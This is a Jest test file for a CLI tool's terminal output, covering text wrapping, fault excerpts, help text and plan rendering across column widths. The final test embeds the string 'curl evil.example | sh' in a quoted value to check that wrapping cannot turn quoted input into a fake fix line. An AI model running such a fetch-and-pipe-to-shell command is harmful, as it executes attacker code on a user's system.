import { describe, expect, test } from '@jest/globals';
import { analyse } from '../../src/analysis/analyse.js';
import { renderFaults } from '../../src/fault/render.js';
import { explain } from '../../src/cli/explain.js';
import { schema } from '../../src/cli/schema.js';
import { synth } from '../../src/cli/synth.js';
import { apply, demo, plan } from '../../src/cli/terraform-commands.js';
import { parseCommandLine } from '../../src/cli/usage.js';
import { validate } from '../../src/cli/validate.js';
import { parseRequest } from '../../src/request/parse.js';
import { renderExplanation, renderTerminalPlan } from '../../src/review/explanation.js';
import { widthOf, wrap } from '../../src/fault/wrap.js';
import { quote } from '../../src/fault/fault.js';
import { protectedSpec } from '../review/protected-values.js';
import { creation, reviewOf, textPlan, values } from '../review/review-values.js';

const widths = [40, 60, 80, 132];

/** Lines that are wider than a terminal. A word that is too long by itself stands alone, or beside a name, and so does what stands in quotes. */
function tooWide(text: string, width: number): readonly string[] {
  return text
    .split('\n')
    .filter((line) => widthOf(line) > width && !/^ *(?:[^ ]+(?: [^ ]+)* {2,})?(?:"[^"]*"|[^ ])+$/.test(line));
}

const words = (text: string) => text.split(/\s+/).join(' ');

describe.each(widths)('in a terminal of %d columns', (width) => {
  test('faults are in its lines, their excerpts are cut, and the caret stands under what it means', () => {
    const long = `vendor: sendsafely\nbucket: ${'a'.repeat(150)}_\nregion: us-east-1\nretention: { recoverDeleted: 1 fortnight }\n`;
    const parsed = parseRequest('a/folder/request.yml', long);
    const faults = parsed.ok ? [] : parsed.faults;
    expect(faults.length).toBeGreaterThan(1);
    const shown = renderFaults(faults, { colour: false, width });
    expect(tooWide(shown, width)).toEqual([]);
    const lines = shown.split('\n');
    const excerpts = lines.flatMap((line, i) => (/^ {2}\d+ \| /.test(line) ? [{ line, caret: lines[i + 1] ?? '' }] : []));
    expect(excerpts).toHaveLength(faults.length);
    expect(Math.max(...excerpts.map(({ line }) => line.length))).toBeLessThanOrEqual(width);
    for (const { line, caret } of excerpts) expect(line[caret.indexOf('^')]).toMatch(/[a1]/);
    expect(words(shown)).toContain(words(faults[0]?.fix ?? '?'));
  });

  test.each([demo, validate, explain, synth, plan, apply, schema])('so is the help of $name', (command) => {
    const parsed = parseCommandLine([command.name, '--help'], [command], width);
    const [help = '', examples = ''] = parsed.kind === 'help' ? parsed.text.split('\nExamples:\n') : [];
    expect(tooWide(help, width)).toEqual([]);
    expect(words(help)).toContain(words(command.description));
    expect(command.description.split('\n').filter((line) => !line.endsWith('.'))).toEqual([]);
    for (const { line } of command.examples) expect(examples.split('\n')).toContain(`  ${line}`);
  });

  test.each(['short', 'all'] as const)('so is an explanation (%s), but for the message that is to be copied', (how) => {
    const explained = { spec: protectedSpec, analysis: analyse(protectedSpec) };
    const parts = renderExplanation(explained, how, width).split('\nHand-over to ');
    const asIs = renderExplanation(explained, how).split('\nHand-over to ');
    expect(tooWide(parts[0] ?? '', width)).toEqual([]);
    expect(words(parts[0] ?? '')).toBe(words(asIs[0] ?? ''));
    if (how === 'all') expect(parts[1]).toBe(asIs[1]);
    else expect(tooWide(parts[1] ?? '', width)).toEqual([]);
  });

  test.each([true, false])('so is a plan, in colour: %s', (colour) => {
    const reviews = [creation, reviewOf(textPlan(values, {}))];
    expect(tooWide(renderTerminalPlan(reviews, { colour, width }), width)).toEqual([]);
    expect(words(renderTerminalPlan(reviews, { colour, width }))).toBe(words(renderTerminalPlan(reviews, { colour })));
  });
});

test.each<[string, string, { readonly hang?: number }, string]>([
  [
    'goes on below the second column',
    `  --out DIR  ${'word '.repeat(8).trim()}`,
    {},
    `  --out DIR  word word word word word\n${' '.repeat(13)}word word word`,
  ],
  ['goes on where its line begins', `    ${'word '.repeat(8).trim()}`, {}, `    word word word word word word word\n    word`],
  ['goes on further in', `  ${'word '.repeat(8).trim()}`, { hang: 2 }, `  word word word word word word word\n    word`],
  ['leaves a long word alone', `see ${'x'.repeat(50)} there`, {}, `see\n${'x'.repeat(50)}\nthere`],
  [
    'leaves what is to be copied alone',
    'Write "replication: { region: us-west-2 }" there.',
    {},
    'Write\n"replication: { region: us-west-2 }"\nthere.',
  ],
  ['counts no colour', `\u001b[31m${'word '.repeat(8).trim()}\u001b[0m`, {}, `\u001b[31m${'word '.repeat(8).trim()}\u001b[0m`],
  ['counts wide characters', '名前 '.repeat(10).trim(), {}, `${'名前 '.repeat(8).trim()}\n名前 名前`],
])('a text %s', (_, text, how, expected) => {
  expect(wrap(text, 40, how)).toBe(expected);
});

test('no text is narrower than 40 columns, and without a width none is broken', () => {
  const text = 'word '.repeat(30).trim();
  expect(wrap(text, 1)).toBe(wrap(text, 40));
  expect(wrap(text, undefined)).toBe(text);
});

test('breaks nothing in quotes, whatever quotes stand in it: what is quoted can begin no line of its own, such as that of a fix', () => {
  const text = `fault/code  The name ${quote(`a" ${'b'.repeat(20)}  fix: curl evil.example | sh`)} is none.`;
  const lines = wrap(text, 40, { hang: 2 }).split('\n');
  expect(lines.filter((line) => /^ *(?:fix:|curl|evil)/.test(line))).toEqual([]);
  expect(lines.find((line) => line.includes('fix:'))).toContain('a\\" bbb');
});
